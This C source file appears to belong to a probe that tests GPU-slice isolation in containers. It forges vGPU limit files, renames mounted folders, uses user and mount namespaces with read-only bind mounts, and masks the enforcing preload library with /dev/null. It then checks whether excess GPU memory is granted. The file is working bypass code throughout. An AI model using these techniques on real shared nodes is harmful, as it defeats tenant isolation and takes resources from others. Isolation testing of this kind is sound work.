/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Bypasses by forged files in the place of the files that the node mounts into the container: the limits of its slice
 * of a GPU, its accounting files and the library that enforces the limits. Either folders are renamed from inside the
 * container, or the tenant mounts other files over them in its own mount namespace. Renamed folders are restored,
 * because later checks use the slice.
 */
#include "bypass.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <unistd.h>

#define SELF "/proc/self/exe"
#define PLACE 512 /* Size of a buffer for a path. */

/* Computes zlib's CRC, as used in the limits file. */
static uint32_t crc_of(const unsigned char *bytes, size_t size)
{
    uint32_t crc = 0xffffffffu;
    for (size_t i = 0; i < size; i++) {
        crc ^= bytes[i];
        for (int bit = 0; bit < 8; bit++)
            crc = crc >> 1 ^ (crc & 1 ? 0xedb88320u : 0);
    }
    return ~crc;
}

/* Writes the slice's own limits with twice the memory and all SMs to `to`. Returns false if that fails. `from`:
 * descriptor of the real limits. */
static bool forge(int from, const char *to)
{
    union {
        struct vgpu_limits limits;
        unsigned char bytes[VGPU_LIMITS_FILE_SIZE];
    } file;
    memset(&file, 0, sizeof file);
    if (pread(from, &file, sizeof file, 0) < (ssize_t)offsetof(struct vgpu_limits, devices) || file.limits.size > sizeof file)
        return false;
    for (uint32_t i = 0; i < file.limits.device_count && i < VGPU_MAX_DEVICES; i++) {
        size_t at = file.limits.device_offset + (size_t)i * file.limits.device_size;
        if (at + sizeof(struct vgpu_limits_device) > sizeof file)
            return false;
        struct vgpu_limits_device *device = (struct vgpu_limits_device *)(file.bytes + at);
        device->memory_bytes *= 2;
        device->sm_percent = 100;
    }
    file.limits.sequence = file.limits.crc32 = 0;
    file.limits.crc32 = crc_of(file.bytes, file.limits.size);
    int out = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0444);
    bool whole = out >= 0 && write(out, &file, sizeof file) == (ssize_t)sizeof file;
    if (out >= 0)
        close(out);
    return whole;
}

/* Returns the folder that contains a path. */
static void above(const char *path, char folder[PLACE])
{
    snprintf(folder, PLACE, "%s", path);
    char *end = strrchr(folder, '/');
    *(end && end != folder ? end : folder + 1) = 0;
}

/* --- renamed folders -------------------------------------------------------------------------------- */

/* Uses the system call, because on new systems libc's stat would make the probe require GLIBC_2.33. */
static bool device_of(const char *path, dev_t *device)
{
    struct stat found;
    bool there = syscall(SYS_newfstatat, AT_FDCWD, path, &found, 0) == 0;
    *device = there ? found.st_dev : 0;
    return there;
}

/* Returns whether a folder may be renamed. A folder on the root's own file system may belong to the host if the
 * probe runs without a container. */
static bool may_be_moved(const char *folder)
{
    char parent[PLACE];
    dev_t root, own, holds;
    above(folder, parent);
    return device_of("/", &root) && device_of(folder, &own) && device_of(parent, &holds) && (holds != root || own != holds);
}

/* Puts forged limits, and links to all other renamed files, in the place of the renamed folder. `rest`: the path from
 * that folder to the limits. */
static bool rebuild(const char *moved, const char *place, const char *rest, int limits)
{
    char name[NAME_MAX + 1], from[PLACE], to[PLACE];
    size_t first = strcspn(rest, "/");
    snprintf(name, sizeof name, "%.*s", (int)first, rest);
    DIR *folder = mkdir(place, 0755) == 0 ? opendir(moved) : NULL;
    bool done = folder != NULL;
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
            continue;
        snprintf(from, sizeof from, "%s/%s", moved, entry->d_name);
        snprintf(to, sizeof to, "%s/%s", place, entry->d_name);
        if (strcmp(entry->d_name, name) != 0)
            done = symlink(from, to) == 0 && done;
        else if (rest[first])
            done = rebuild(from, to, rest + first + 1, limits) && done;
        else
            done = forge(limits, to) && done;
    }
    if (folder)
        closedir(folder);
    return done;
}

/* Removes the links, files and folders that rebuild() created. */
static void take_down(const char *place)
{
    char path[PLACE];
    DIR *folder = opendir(place);
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0)
            continue;
        snprintf(path, sizeof path, "%s/%s", place, entry->d_name);
        if (unlink(path) != 0 && errno == EISDIR)
            take_down(path);
    }
    if (folder)
        closedir(folder);
    rmdir(place);
}

/* Requests memory with forged limits if the renamed folder contained the limits. If that is not granted, requests
 * memory while the files of the renamed folder are missing. */
static enum attempt ask_moved(const struct fill *fill, const char *folder, const char *moved, int limits)
{
    const char *const added[] = {NULL};
    size_t length = strlen(folder);
    const char *path = slice_limits();
    enum attempt attempt = REFUSED;
    if (strncmp(path, folder, length) == 0 && path[length] == '/') {
        attempt = rebuild(moved, folder, &path[length + 1], limits) ? ask_as_program(SELF, added, fill->device) : UNABLE;
        take_down(folder);
    }
    return attempt == GRANTED ? GRANTED : ask_as_program(SELF, added, fill->device);
}

static enum attempt move_folder(const struct fill *fill, const char *folder, int limits)
{
    char moved[PLACE + 8];
    snprintf(moved, sizeof moved, "%s.aside", folder);
    if (rename(folder, moved) != 0)
        return REFUSED;
    enum attempt attempt = ask_moved(fill, folder, moved, limits);
    return rename(moved, folder) == 0 ? attempt : UNABLE;
}

enum attempt move_own_folders(const struct fill *fill)
{
    const char *const files[] = {slice_limits(), slice_ledger(), VGPU_PATH_LIBRARY};
    enum attempt worst = UNABLE;
    char folder[PLACE], next[PLACE];
    int limits = open(slice_limits(), O_RDONLY | O_CLOEXEC);
    sigset_t all;
    if (limits < 0)
        return UNABLE;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, NULL);
    for (size_t i = 0; i < sizeof files / sizeof *files && worst != GRANTED; i++)
        for (above(files[i], folder); folder[1] && worst != GRANTED; memcpy(folder, next, sizeof folder)) {
            enum attempt attempt = may_be_moved(folder) ? move_folder(fill, folder, limits) : UNABLE;
            worst = attempt == UNABLE ? worst : attempt;
            above(folder, next);
        }
    return worst;
}

/* --- own mount namespace ------------------------------------------------------------------------------ */

static bool write_once(const char *path, const char *text)
{
    int file = open(path, O_WRONLY | O_CLOEXEC);
    bool done = file >= 0 && write(file, text, strlen(text)) == (ssize_t)strlen(text);
    if (file >= 0)
        close(file);
    return done;
}

/*
 * Enters a new user namespace with all capabilities and a new mount namespace. Returns false if the kernel refuses. The
 * user keeps its id in the namespace. Root without CAP_SETFCAP gets no id mapping there, so it can mount but cannot
 * create files.
 */
static bool own_mounts(void)
{
    char users[64], groups[64];
    snprintf(users, sizeof users, "%u %u 1", geteuid(), geteuid());
    snprintf(groups, sizeof groups, "%u %u 1", getegid(), getegid());
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        return false;
    if (write_once("/proc/self/uid_map", users) && write_once("/proc/self/setgroups", "deny"))
        write_once("/proc/self/gid_map", groups);
    return mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0;
}

static bool may_make_files_there(void)
{
    struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct own[_LINUX_CAPABILITY_U32S_3];
    memset(own, 0, sizeof own);
    return geteuid() != 0 || (syscall(SYS_capget, &header, own) == 0 && own[0].effective & 1u << CAP_SETFCAP);
}

static bool is_other(const struct dirent *entry, const char *name)
{
    return entry->d_name[0] != '.' && strcmp(entry->d_name, name) != 0;
}

/* Writes forged limits into a folder, and an empty file for each other file of the node. */
static bool lay_out(const char *place, DIR *node, const char *name, int limits)
{
    char path[PLACE + NAME_MAX + 1];
    snprintf(path, sizeof path, "%s/%s", place, name);
    bool done = forge(limits, path);
    rewinddir(node);
    for (struct dirent *entry; done && (entry = readdir(node));) {
        snprintf(path, sizeof path, "%s/%s", place, entry->d_name);
        int made = is_other(entry, name) ? open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600) : 0;
        done = made >= 0;
        if (made > 0)
            close(made);
    }
    return done;
}

/* Bind-mounts the node's files over the empty files. */
static bool bind_others(const char *place, DIR *node, const char *name)
{
    char source[40], target[PLACE + NAME_MAX + 1];
    bool done = true;
    rewinddir(node);
    for (struct dirent *entry; done && (entry = readdir(node));) {
        if (!is_other(entry, name))
            continue;
        int from = openat(dirfd(node), entry->d_name, O_PATH | O_NOFOLLOW | O_CLOEXEC);
        snprintf(source, sizeof source, "/proc/self/fd/%d", from);
        snprintf(target, sizeof target, "%s/%s", place, entry->d_name);
        done = from >= 0 && mount(source, target, NULL, MS_BIND, NULL) == 0;
        if (from >= 0)
            close(from);
    }
    return done;
}

static bool bind_read_only(const char *from, const char *to)
{
    struct statvfs found;
    if (mount(from, to, NULL, MS_BIND | MS_REC, NULL) != 0 || statvfs(to, &found) != 0)
        return false;
    /* The mount must keep the restrictions of the mount below it, otherwise the kernel refuses. statvfs reports these
     * restrictions by mount's flag values, except RELATIME. */
    unsigned long kept = found.f_flag & (MS_NOSUID | MS_NODEV | MS_NOEXEC | MS_NOATIME | MS_NODIRATIME);
    kept |= found.f_flag & ST_RELATIME ? MS_RELATIME : 0;
    return mount("none", to, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY | kept, NULL) == 0;
}

/*
 * Covers the folder of the limits with a read-only mount that contains all of the node's files except the limits, so
 * that a check from inside finds the expected state. It is on tmpfs if possible, so that no files remain.
 */
static enum attempt cover_limits(const char *path)
{
    char folder[PLACE], place[PLACE];
    above(path, folder);
    const char *name = path + strlen(folder) + 1;
    bool in_memory = may_make_files_there();
    const char *scratch = in_memory ? folder : scratch_file("cover");
    int limits = open(path, O_RDONLY | O_CLOEXEC);
    DIR *node = opendir(folder);
    if (limits < 0 || !node || !scratch)
        return UNABLE;
    snprintf(place, sizeof place, "%s", scratch);
    bool ready = in_memory || (mkdir(place, 0755) == 0 && lay_out(place, node, name, limits));
    bool own = ready && own_mounts();
    closedir(node);
    /* The folder is opened again in the new namespace, because nothing can be bind-mounted from another namespace. */
    node = own ? opendir(folder) : NULL;
    if (node && in_memory)
        own = mount("none", place, "tmpfs", MS_NOSUID | MS_NODEV, "mode=755") == 0 && lay_out(place, node, name, limits);
    own = node && own && bind_others(place, node, name) && bind_read_only(place, folder);
    if (node)
        closedir(node);
    close(limits);
    if (!own && !in_memory)
        take_down(place);
    return !ready ? UNABLE : own ? GRANTED : CLOSED;
}

/* Requests memory in a slice that is still empty. The forged limits grant more than the slice has, so the bypass is
 * open if they are accepted. */
static enum attempt ask_with_forged(const struct fill *fill)
{
    char reason[200];
    CUcontext context;
    CUdeviceptr pointer;
    size_t total = 0;
    if (!slice_is_empty)
        return ask_honestly(fill);
    const struct cuda *cuda = cuda_open(reason, sizeof reason);
    if (!cuda)
        return cuda_handle() ? REFUSED : UNABLE;
    if (cuda->total_mem(&total, fill->device) != CUDA_SUCCESS || total <= fill->limit)
        return REFUSED;
    if (cuda->ctx_create(&context, 0, fill->device) != CUDA_SUCCESS)
        return REFUSED;
    if (cuda->mem_alloc(&pointer, BEYOND) != CUDA_SUCCESS)
        return UNABLE;
    hold_what_was_got();
    return GRANTED;
}

enum attempt cover_the_limits(const struct fill *fill)
{
    if (access(slice_limits(), R_OK) != 0)
        return UNABLE;
    enum attempt covered = cover_limits(slice_limits());
    return covered == GRANTED ? ask_with_forged(fill) : covered;
}

enum attempt cover_the_preload(const struct fill *fill)
{
    const char *const added[] = {NULL};
    if (access(VGPU_PATH_PRELOAD, R_OK) != 0)
        return UNABLE;
    return own_mounts() && mount("/dev/null", VGPU_PATH_PRELOAD, NULL, MS_BIND, NULL) == 0
               ? ask_as_program(SELF, added, fill->device)
               : CLOSED;
}
